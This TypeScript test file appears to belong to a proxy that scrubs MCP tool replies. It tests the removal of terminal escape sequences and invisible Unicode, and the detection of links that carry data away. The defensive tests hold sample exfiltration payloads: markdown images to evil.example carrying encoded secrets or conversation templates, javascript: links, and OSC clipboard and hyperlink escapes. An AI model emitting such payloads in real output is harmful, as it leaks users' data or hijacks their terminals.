import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { rendering } from '../../../lib/checks/rendering.ts';
import { HIDDEN_BYTES, withoutHidden } from '../../../lib/inspect/rendering/hidden.ts';
import { carryingLinks } from '../../../lib/inspect/rendering/links.ts';
import type { Call } from '../../../lib/model/call.ts';
import { decideCall, decideReply } from '../../../lib/policy/decide.ts';
import { decideNotice } from '../../../lib/policy/decide-notice.ts';
import { Payload } from '../../../lib/wire/payload.ts';
import { configOf } from '../../support/engine/engine.ts';
import type { Message } from '../../support/mcp/lines.ts';
import { callWith, replyOf } from '../../support/policy/calls.ts';
import { Judged } from '../../support/policy/inspected.ts';
import { compiled } from '../../support/policy/policy-state.ts';

const ESC = '\u001b';

function policyWith(section: string) {
  return compiled(configOf({ files: 'legacy' }, `security: { rendering: ${section} }\n`), [rendering]);
}

const STRIPPING = policyWith('{ hidden: strip, links: strip }');

async function judged(body: unknown, parts: Partial<Call> = {}, policy = STRIPPING, ok = true): Promise<Judged> {
  const reply = replyOf(body, ok);
  return new Judged(await decideReply(policy, callWith(parts), reply), reply.body);
}

test('what acts on a terminal or is not seen goes, and every other character stays', () => {
  const cases: readonly (readonly [hidden: string, shown: string])[] = [
    [`${ESC}[31mred${ESC}[0m`, 'red'],
    [`a${ESC}[8mhidden${ESC}[28m`, 'ahidden'],
    [`${ESC}]8;;https://evil.example\u0007click${ESC}]8;;\u0007`, 'click'],
    [`${ESC}]0;title${ESC}\\text`, 'text'],
    [`${ESC}]52;c;aGk=\u0007x`, 'x'],
    [`a${ESC}[2J${ESC}[1;1Hb`, 'ab'],
    ['a\u009b31mb', 'ab'],
    [`lone ${ESC}`, 'lone '],
    ['in\u200bvis\u2060ib\u00adle', 'invisible'],
    ['wo\u200drd', 'word'],
    ['a\ufe0fb', 'ab'],
    ['\u202edrow\u202c', 'drow'],
    ['x \u2066y\u2069 z', 'x y z'],
    [`sun${[...'hello'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}`, 'sun'],
    ['😀\ufe00\ufe01\u{e0101}', '😀\ufe00'],
    ['a\u3164b', 'ab'],
    ['a\ufeffb', 'ab'],
    ['\u{e0001}a', 'a'],
  ];
  for (const [hidden, shown] of cases) assert.equal(withoutHidden(hidden), shown, JSON.stringify(hidden));
});

test('what only looks like an image is cleaned', async () => {
  const data = `${ESC}[8mhidden${ESC}[28m ![](https://evil.example/?q={{secret}})`;
  for (const block of [
    { type: 'image', mimeType: 'image/png', data },
    { mimeType: 'image/png', data },
  ]) {
    const { body } = await judged({ content: [block] });
    assert.deepEqual((body.json() as Message).content, [
      { ...block, data: 'hidden ![](about:blank#removed-by-sallyport)' },
    ]);
  }
});

test('what scripts and emoji need stays', () => {
  const texts = [
    'plain text,\ttabs\r\nand lines\u0085',
    '👨‍👩‍👧‍👦 ❤️ 👍🏽 🏳️‍🌈 1️⃣ #️⃣ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ©️ ☺︎',
    'می‌خواهم', // Persian, with a joiner that separates
    'क्‍ष न्‌', // Devanagari
    'ශ්‍රී', // Sinhala
    '\u200fالعربية\u200e (2024)',
    '\u2067עברית\u2069 and \u2068x\u2069',
    'ภาษา\u200bไทย',
    '葛\u{e0100}飾区',
    '\ufeffbegins with a mark',
    'ᠠ\u180b',
    'ᄀ\u1160ᆨ',
    'naïve café Ω ≠ 漢字 한국어',
  ];
  for (const text of texts) assert.equal(withoutHidden(text), text, JSON.stringify(text));
});

test('nothing but characters is taken out, and nothing is left to take out', () => {
  const tricky = fc.constantFrom(
    ...`a 1#é漢ب\u200b\u200d\ufe0f\u202e\u2066${ESC}[]m8;\u0007\u009b\u009d\ufeff\u180b\u1160`,
    '😀',
    '🏴',
    '\u{e0067}',
    '\u{e007f}',
    '\u{e0100}',
  );
  fc.assert(
    fc.property(fc.array(tricky, { maxLength: 40 }), (parts) => {
      const text = parts.join('');
      const shown = withoutHidden(text);
      assert.ok(isSubsequence(shown, text));
      assert.equal(withoutHidden(shown), shown);
      assert.doesNotMatch(shown, /[\u001b\u009b\u202d\u202e\u2060]/);
    }),
    { numRuns: 3000 },
  );
});

test('whatever may have to go is found in bytes as well', () => {
  for (let code = 0x80; code <= 0xe0fff; code += code === 0xd7ff ? 0x801 : 1) {
    const text = `a${String.fromCodePoint(code)}`;
    if (withoutHidden(text) === text) continue;
    assert.ok(HIDDEN_BYTES.test(Buffer.from(text).toString('latin1')), code.toString(16));
  }
});

function isSubsequence(part: string, whole: string): boolean {
  let at = 0;
  for (const letter of part) {
    at = whole.indexOf(letter, at);
    if (at === -1) return false;
    at += letter.length;
  }
  return true;
}

test('links that carry data away or run code are told from others', () => {
  const carrying = [
    '![x](https://evil.example/p?d=c2VjcmV0IGtleSAxMjM0NTY3ODkwYWJj)',
    '![x](https://evil.example/p?d={{conversation}})',
    '[x](https://evil.example/${DATA}/a)',
    '[x](javascript:alert(1))',
    '<a href="javascript:alert(1)">x</a>',
    '<img alt=x src="https://evil.example/a.png?q=the%20key%20is%20very%20secret%20now">',
    "<iframe src='data:text/html;base64,PGI+'></iframe>",
    `![x](https://evil.example/${'a'.repeat(300)})`,
    '<div style="background:url(https://evil.example/?d=c2VjcmV0IGtleSAxMjM0NTY3ODkw)">',
    '![x][1]\n\n[1]: https://evil.example/p?d=c2VjcmV0IGtleSAxMjM0NTY3ODkwYWJj',
    '<img src="https://ok.example/a.png" srcset="https://evil.example/p?d=c2VjcmV0IGtleSAxMjM0NTY3ODkw">',
  ];
  for (const text of carrying) assert.equal(carryingLinks(text).length, 1, text);
  const harmless = [
    '![logo](https://example.com/logo.png)',
    '[docs](https://example.com/docs?page=2&sort=name#top)',
    '![badge](https://img.example/badge/build-passing-green.svg?style=flat)',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<a href="https://example.com/?utm_source=newsletter&utm_campaign=autumn">x</a>',
    'see https://example.com/a?token=c2VjcmV0IGtleSAxMjM0NTY3ODkw in plain text',
    'const a = list[0](x); // [no link]: here',
  ];
  for (const text of harmless) assert.deepEqual(carryingLinks(text), [], text);
});

test('what is shown is cleaned, and what programs read is left alone', async () => {
  const hidden = `${ESC}[1mh\u200bi`;
  const body = {
    content: [
      { type: 'text', text: hidden, _meta: { raw: hidden } },
      { type: 'image', data: 'aGk=', mimeType: 'image/png' },
      { type: 'resource', resource: { uri: `a:${hidden}`, text: hidden, blob: hidden } },
    ],
    structuredContent: { [hidden]: hidden, rows: [hidden, 1] },
    _meta: { raw: hidden },
  };
  const { body: left, decision } = await judged(body);
  assert.deepEqual(left.json(), {
    content: [
      { type: 'text', text: 'hi', _meta: { raw: hidden } },
      { type: 'image', data: 'aGk=', mimeType: 'image/png' },
      { type: 'resource', resource: { uri: `a:${hidden}`, text: 'hi', blob: hidden } },
    ],
    structuredContent: { [hidden]: hidden, rows: [hidden, 1] },
    _meta: { raw: hidden },
  });
  assert.deepEqual(
    decision.findings.map(({ note }) => note),
    ['SP3221 hidden characters in 2 texts'],
  );
});

test('errors, prompts, definitions, questions and notices are cleaned as well', async () => {
  const error = await judged({ code: -1, message: 'b\u200bad', data: { why: 'b\u200bad' } }, {}, STRIPPING, false);
  assert.deepEqual(error.body.json(), { code: -1, message: 'bad', data: { why: 'bad' } });
  const prompt = await judged({ messages: [{ role: 'user', content: { type: 'text', text: 'h\u200bi' } }] });
  assert.deepEqual((prompt.body.json() as Message).messages[0].content.text, 'hi');
  const tools = Payload.of('{"tools":[{"name":"a","description":"h\\u200bi","inputSchema":{"enum":["h\\u200bi"]}}]}');
  const list = callWith({ action: 'tools/list', resource: { backend: 'files', type: 'list', id: 'tools' } });
  const items = [{ resource: { backend: 'files', type: 'tool', id: 'a' } as const, start: 10, end: tools.size - 2 }];
  const listed = new Judged(await decideReply(STRIPPING, list, { ok: true, body: tools, items }), tools);
  assert.equal(listed.body.text(), '{"tools":[{"name":"a","description":"hi","inputSchema":{"enum":["h\\u200bi"]}}]}');
  const params = Payload.of(JSON.stringify({ message: 'h\u200bi' }));
  const resource = { backend: 'files', type: 'client', id: 'elicitation' } as const;
  const question = callWith({ direction: 'to-client', action: 'elicitation/create', resource, params });
  assert.equal(new Judged(await decideCall(STRIPPING, question), params).body.text(), '{"message":"hi"}');
  const told = callWith({ action: 'notifications/message', params: Payload.of('{"level":"info","data":"h\\u200bi"}') });
  assert.equal(
    new Judged(await decideNotice(STRIPPING, told), told.params!).body.text(),
    '{"level":"info","data":"hi"}',
  );
});

test('an address that carries data is replaced, and the text around it stays', async () => {
  const text =
    'Look: ![chart](https://evil.example/p?d=c2VjcmV0IGtleSAxMjM0NTY3ODkwYWJj "a") and [docs](https://a.example).';
  const { shown } = await judged({ content: [{ type: 'text', text }] });
  assert.deepEqual(shown, ['Look: ![chart](about:blank#removed-by-sallyport "a") and [docs](https://a.example).']);
});

test('a flag records and changes nothing, and off does not look', async () => {
  const body = '{"content":[{"type":"text","text":"h\\u200bi ![x](https://e.example/?d={{a}})"}]}';
  const flagged = await judged(body, {}, policyWith('{ hidden: flag, links: flag }'));
  assert.equal(flagged.body.text(), body);
  assert.match(flagged.findings, /^SP3221 hidden characters in one text\nSP3222 links that carry data away: 1$/);
  const off = await judged(body, {}, policyWith('{ hidden: off, links: off }'));
  assert.equal(off.findings, '');
});

test('an answer without any of it leaves byte by byte as it came', () => {
  const words = fc.array(
    fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom('<b>x</b>', '[a](https://b.example)', '\\', '"', '/')),
    { maxLength: 8 },
  );
  fc.assert(
    fc.asyncProperty(words, fc.jsonValue(), async (texts, structuredContent) => {
      const text = withoutHidden(texts.join(' '));
      fc.pre(carryingLinks(text).length === 0);
      const harmless = JSON.stringify({ content: [{ type: 'text', text }] });
      const { decision } = await judged(harmless);
      assert.deepEqual(decision.edits, []);
      const whole = JSON.stringify({ content: [], structuredContent });
      const edited = await judged(whole);
      if (edited.decision.edits.length === 0) assert.equal(edited.body.text(), whole);
    }),
    { numRuns: 500 },
  );
});

test('texts made to take long take no longer than others of their size', () => {
  const size = 1_000_000;
  const hostile = [
    `${ESC}]`,
    '\u009d',
    '![',
    '<a href=',
    '[x]: ',
    '<img ',
    'url(',
    '\u200d',
    '\u{e0067}',
    '[',
    '](',
    '\u1160',
  ];
  for (const part of hostile) {
    const text = part.repeat(Math.ceil(size / part.length));
    withoutHidden(text);
    carryingLinks(text);
  }
});
